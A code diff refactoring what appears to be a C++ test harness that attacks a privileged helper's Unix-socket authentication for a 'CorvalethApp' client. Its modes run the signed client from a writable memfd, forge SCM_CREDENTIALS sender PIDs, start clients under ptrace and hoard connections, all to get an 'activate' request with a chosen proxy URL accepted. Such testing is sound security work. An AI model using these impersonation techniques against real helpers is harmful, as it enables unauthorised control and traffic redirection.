@@ -17,7 +17,6 @@
 #include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
-#include <sys/mman.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
@@ -32,93 +31,57 @@
 #include <fstream>
 #include <iterator>
 #include <string>
-#include <vector>
 
 extern char** environ;
 
 namespace {
 
-std::string socketPath() {
+// Connects `fd` to the helper; false when it cannot.
+bool connectToHelper(int fd) {
   const char* root = std::getenv("HELPER_ROOT");
-  return std::string(root ? root : "") + "/run/tarn.CorvalethApp.helper.xpc";
-}
-
-int connectToHelper() {
-  const int fd = ::socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+  const std::string path = std::string(root ? root : "") + "/run/tarn.CorvalethApp.helper.xpc";
   sockaddr_un address{};
   address.sun_family = AF_UNIX;
-  const std::string path = socketPath();
   std::strncpy(address.sun_path, path.c_str(), sizeof address.sun_path - 1);
-  if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
+  return ::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0;
+}
+
+int connectedSocket() {
+  const int fd = ::socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+  if (!connectToHelper(fd)) {
     std::printf("connect: %s\n", std::strerror(errno));
     std::exit(2);
   }
   return fd;
 }
 
-// The first packet within two seconds, or "".
+// The first packet within two seconds, or "(none)".
 std::string receive(int fd) {
   timeval tv{2, 0};
   ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
   char buf[4096];
   const ssize_t n = ::recv(fd, buf, sizeof buf, 0);
-  return n > 0 ? std::string(buf, static_cast<size_t>(n)) : "";
+  return n > 0 ? std::string(buf, static_cast<size_t>(n)) : "(none)";
 }
 
-std::string nonceOf(const std::string& hello) {
-  const std::string key = "\"nonce\":\"";
-  const size_t at = hello.find(key);
-  return at == std::string::npos ? "" : hello.substr(at + key.size(), 32);
-}
-
-std::string activation(const std::string& nonce, const std::string& marker, const std::string& url) {
-  return "{\"nonce\":\"" + nonce + "\",\"id\":1,\"op\":\"activate\",\"proxyURL\":\"" + url +
-         "\",\"clientPID\":" + marker + "}";
-}
-
-// Sends `packet`, with the credentials `pid`/`uid`/`gid` when pid > 0.
-int sendAs(int fd, const std::string& packet, pid_t pid, uid_t uid, gid_t gid) {
-  iovec iov{const_cast<char*>(packet.data()), packet.size()};
-  msghdr msg{};
-  msg.msg_iov = &iov;
-  msg.msg_iovlen = 1;
-  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(ucred))] = {};
-  if (pid > 0) {
-    msg.msg_control = control;
-    msg.msg_controllen = sizeof control;
-    cmsghdr* c = CMSG_FIRSTHDR(&msg);
-    c->cmsg_level = SOL_SOCKET;
-    c->cmsg_type = SCM_CREDENTIALS;
-    c->cmsg_len = CMSG_LEN(sizeof(ucred));
-    const ucred cred{pid, uid, gid};
-    std::memcpy(CMSG_DATA(c), &cred, sizeof cred);
-  }
-  return ::sendmsg(fd, &msg, MSG_NOSIGNAL) >= 0 ? 0 : errno;
-}
-
-[[noreturn]] void execClient(const std::string& image, const std::string& marker, const std::string& url) {
-  // A client that waits: it reads the proxy URL from a standard input that
-  // never ends, so it keeps running while the parent works.
-  const char* argv[] = {image.c_str(), "activate", url.c_str(), "--pid", marker.c_str(), "--detach", nullptr};
-  ::execve(image.c_str(), const_cast<char**>(argv), environ);
-  std::printf("exec %s: %s\n", image.c_str(), std::strerror(errno));
+// Runs the signed client's activate with `marker` as its pid, from `path`
+// (a name for the image's file), and does not return.
+[[noreturn]] void execClient(const std::string& path, const std::string& marker, const std::string& url) {
+  const char* argv[] = {"client", "activate", url.c_str(), "--pid", marker.c_str(), "--detach", nullptr};
+  ::execve(path.c_str(), const_cast<char**>(argv), environ);
+  std::printf("exec %s: %s\n", path.c_str(), std::strerror(errno));
   std::_Exit(127);
 }
 
+// Runs the intact image from a memfd; this process keeps a descriptor that
+// could rewrite the code while it runs.
 int memfdAttack(const std::string& marker, const std::string& image, const std::string& url) {
   std::ifstream in(image, std::ios::binary);
   const std::string bytes((std::istreambuf_iterator<char>(in)), {});
   const int memfd = static_cast<int>(::syscall(SYS_memfd_create, "client", 0));
   if (memfd < 0 || ::write(memfd, bytes.data(), bytes.size()) != static_cast<ssize_t>(bytes.size())) return 3;
-  // Runs the intact image; this process keeps a descriptor that can rewrite
-  // the code while it runs.
   const pid_t child = ::fork();
-  if (child == 0) {
-    const std::string self = "/proc/self/fd/" + std::to_string(memfd);
-    const char* argv[] = {"client", "activate", url.c_str(), "--pid", marker.c_str(), "--detach", nullptr};
-    ::execve(self.c_str(), const_cast<char**>(argv), environ);
-    std::_Exit(127);
-  }
+  if (child == 0) execClient("/proc/self/fd/" + std::to_string(memfd), marker, url);
   int status = 0;
   ::waitpid(child, &status, 0);
   std::printf("client exited with %d\n", WEXITSTATUS(status));
@@ -126,18 +89,15 @@ int memfdAttack(const std::string& marker, const std::string& image, const std::
 }
 
 // A child connects and execs the signed client; the parent shares the
-// socket and speaks for it.
+// socket and speaks for it, naming the child as the sender when `forge`.
 int connectExec(const std::string& marker, const std::string& image, const std::string& url, bool forge) {
   const int fd = ::socket(AF_UNIX, SOCK_SEQPACKET, 0);
   int stop[2], connected[2];
   if (::pipe(stop) != 0 || ::pipe2(connected, O_CLOEXEC) != 0) return 3;
   const pid_t child = ::fork();
   if (child == 0) {
-    sockaddr_un address{};
-    address.sun_family = AF_UNIX;
-    std::strncpy(address.sun_path, socketPath().c_str(), sizeof address.sun_path - 1);
-    if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) std::_Exit(2);
-    ::dup2(stop[0], 0);  // the client's standard input stays open
+    if (!connectToHelper(fd)) std::_Exit(2);
+    ::dup2(stop[0], 0);  // the client reads the URL from a standard input that never ends
     execClient(image, marker, "-");  // the pipe closes at the exec: connected and exec'ing
   }
   ::close(connected[1]);
@@ -145,14 +105,28 @@ int connectExec(const std::string& marker, const std::string& image, const std::
   while (::read(connected[0], &done, 1) > 0) {
   }
   const std::string greeting = receive(fd);
-  std::printf("greeting: %s\n", greeting.empty() ? "(none)" : greeting.c_str());
-  const std::string nonce = nonceOf(greeting);
+  std::printf("greeting: %s\n", greeting.c_str());
+  const size_t at = greeting.find("\"nonce\":\"");
+  const std::string nonce = at == std::string::npos ? "" : greeting.substr(at + 9, 32);
+  const std::string packet = "{\"nonce\":\"" + nonce + "\",\"id\":1,\"op\":\"activate\",\"proxyURL\":\"" + url +
+                             "\",\"clientPID\":" + marker + "}";
+  iovec iov{const_cast<char*>(packet.data()), packet.size()};
+  msghdr msg{};
+  msg.msg_iov = &iov;
+  msg.msg_iovlen = 1;
   // Inside the namespaces this process may name any process of its pid
   // namespace as the sender.
-  const int rc = sendAs(fd, activation(nonce, marker, url), forge ? child : 0, 0, 0);
-  std::printf("send: %s\n", rc == 0 ? "ok" : std::strerror(rc));
-  const std::string reply = receive(fd);
-  std::printf("reply: %s\n", reply.empty() ? "(none)" : reply.c_str());
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(ucred))] = {};
+  if (forge) {
+    msg.msg_control = control;
+    msg.msg_controllen = sizeof control;
+    cmsghdr* c = CMSG_FIRSTHDR(&msg);
+    *c = cmsghdr{CMSG_LEN(sizeof(ucred)), SOL_SOCKET, SCM_CREDENTIALS};
+    const ucred cred{child, 0, 0};
+    std::memcpy(CMSG_DATA(c), &cred, sizeof cred);
+  }
+  std::printf("send: %s\n", ::sendmsg(fd, &msg, MSG_NOSIGNAL) >= 0 ? "ok" : std::strerror(errno));
+  std::printf("reply: %s\n", receive(fd).c_str());
   ::kill(child, SIGKILL);
   ::waitpid(child, nullptr, 0);
   return 0;
@@ -185,9 +159,9 @@ int traceme(const std::string& marker, const std::string& image, const std::stri
     execClient(image, marker, url);
   }
   int status = 0;
-  ::waitpid(child, &status, 0);                    // stopped before the exec
+  ::waitpid(child, &status, 0);  // stopped before the exec
   ::ptrace(PTRACE_CONT, child, nullptr, nullptr);
-  ::waitpid(child, &status, 0);                    // the exec, under trace
+  ::waitpid(child, &status, 0);  // the exec, under trace
   // Detached: it runs untraced from here, but it was started under ptrace.
   ::ptrace(PTRACE_DETACH, child, nullptr, nullptr);
   ::waitpid(child, &status, 0);
@@ -204,15 +178,13 @@ int ptraceAttach(pid_t pid) {
   return 0;
 }
 
+// Opens `count` connections and keeps them: they stay open while it is
+// stopped.
 int hoard(int count) {
-  std::vector<int> held;
   for (int i = 0; i < count; ++i) {
-    const int fd = connectToHelper();
-    const std::string first = receive(fd);
+    const std::string first = receive(connectedSocket());
     std::printf("%s\n", first.find("\"hello\"") != std::string::npos ? "hello" : first.c_str());
-    held.push_back(fd);
   }
-  std::fflush(stdout);
   ::raise(SIGSTOP);
   return 0;
 }
@@ -228,7 +200,7 @@ int main(int argc, char** argv) {
   if (mode == "traceme" && argc == 5) return traceme(argv[2], argv[3], argv[4]);
   if (mode == "ptrace" && argc == 3) return ptraceAttach(std::atoi(argv[2]));
   if (mode == "connect-exit") {
-    connectToHelper();
+    connectedSocket();
     std::printf("%d\n", ::getpid());
     return 0;
   }
